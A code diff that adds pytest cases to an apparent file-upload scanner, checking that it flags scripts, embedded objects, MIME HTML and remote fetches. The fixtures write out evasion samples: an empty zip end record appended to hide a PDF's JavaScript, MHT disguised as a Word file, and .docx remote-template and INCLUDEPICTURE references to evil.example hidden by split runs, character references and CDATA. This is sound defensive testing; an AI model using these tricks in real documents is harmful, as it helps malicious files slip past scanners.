@@ -10,6 +10,7 @@ here failed on the code before H38 (first results in /tmp/notes/H38-inert-bounds
 
 from __future__ import annotations
 
+import base64
 import io
 import struct
 import tracemalloc
@@ -132,3 +133,117 @@ def _now():  # type: ignore[no-untyped-def]
     from datetime import datetime
 
     return datetime.now().astimezone()
+
+
+# --- every reader that applies is judged, the worst taken (R3 #1, H38) ---------------------
+
+EOCD = b"PK\x05\x06" + b"\0" * 18  # an empty zip's end record: zipfile.is_zipfile is true
+PDF_JS = (
+    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))"
+    b">>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "kind"),
+    [
+        ("r.pdf", PDF_JS + EOCD, "scripts"),
+        ("r.html", b"<html><body><script>alert(1)</script></body></html>" + EOCD, "scripts"),
+        ("r.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}" + EOCD, "objects"),
+    ],
+    ids=["pdf", "html", "rtf"],
+)
+def test_an_empty_zip_end_record_appended_to_a_file_does_not_hide_what_it_holds(
+    name: str, data: bytes, kind: str
+) -> None:
+    assert active_content(name, data) == kind
+
+
+def test_a_zip_named_html_with_a_script_in_its_comment_is_scripts() -> None:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as zf:
+        zf.writestr("a.txt", "hello")
+        zf.comment = b"<script>alert(1)</script>"
+    assert active_content("r.html", out.getvalue()) == "scripts"
+
+
+# --- MIME HTML under another name (R3 #3, H38) ----------------------------------------------
+
+MHT = (
+    b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\n'
+    b"Content-Location: file:///C:/x/r.htm\r\nContent-Transfer-Encoding: base64\r\n"
+    b"Content-Type: text/html\r\n\r\n"
+    + base64.encodebytes(b"<html><link rel=Edit-Time-Data href='editdata.mso'></html>")
+    + b"\r\n--b\r\nContent-Location: file:///C:/x/editdata.mso\r\n"
+    b"Content-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n"
+    b"QWN0aXZlTWltZQAAAfAE\r\n--b--\r\n"
+)
+
+
+@pytest.mark.parametrize("name", ["bao-cao.doc", "bao-cao.dat", "bao-cao.mht"])
+def test_mime_html_named_as_a_word_file_is_handled_as_mht(name: str) -> None:
+    assert active_content(name, MHT) == "programs"
+
+
+# --- .docx checks read XML as Word does: references, CDATA, split runs (R3 #4, H38) ---------
+
+_CT = (
+    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
+    b'package/2006/content-types"><Default Extension="rels" ContentType="application/'
+    b'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
+    b'"application/xml"/></Types>'
+)
+_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+_TEMPLATE_RELS = (
+    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+    '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+    'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
+    'TargetMode="{mode}"/></Relationships>'
+)
+
+
+def _docx(body: str, settings_rels: str = "") -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("[Content_Types].xml", _CT)
+        doc = f'<?xml version="1.0"?><w:document {_W}><w:body>{body}</w:body></w:document>'
+        zf.writestr("word/document.xml", doc)
+        if settings_rels:
+            zf.writestr(
+                "word/settings.xml",
+                f'<w:settings {_W}><w:attachedTemplate r:id="rId1"/></w:settings>',
+            )
+            zf.writestr("word/_rels/settings.xml.rels", settings_rels)
+    return out.getvalue()
+
+
+def _field(*codes: str) -> str:
+    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{c}</w:instrText></w:r>' for c in codes)
+    return f"<w:p>{runs}</w:p>"
+
+
+def test_a_remote_template_whose_target_mode_is_a_character_reference_is_links() -> None:
+    assert (
+        active_content("r.docx", _docx("<w:p/>", _TEMPLATE_RELS.format(mode="&#69;xternal")))
+        == "links"
+    )
+
+
+@pytest.mark.parametrize(
+    "field",
+    [
+        _field("INCL", 'UDEPICTURE "http://evil.example/a.png" \\d'),
+        _field('&#73;NCLUDEPICTURE "http://evil.example/a.png" \\d'),
+        _field('<![CDATA[INCLUDEPICTURE "http://evil.example/a.png" \\d]]>'),
+    ],
+    ids=["split-across-runs", "character-reference", "cdata"],
+)
+def test_a_fetching_field_written_as_word_reads_it_is_links(field: str) -> None:
+    assert active_content("r.docx", _docx(field)) == "links"
+
+
+def test_an_ordinary_field_split_across_runs_is_not_withheld() -> None:
+    assert (
+        active_content("r.docx", _docx(_field("PAGE", " \\* MERGEFORMAT") + _field("NUMPAGES")))
+        == ""
+    )
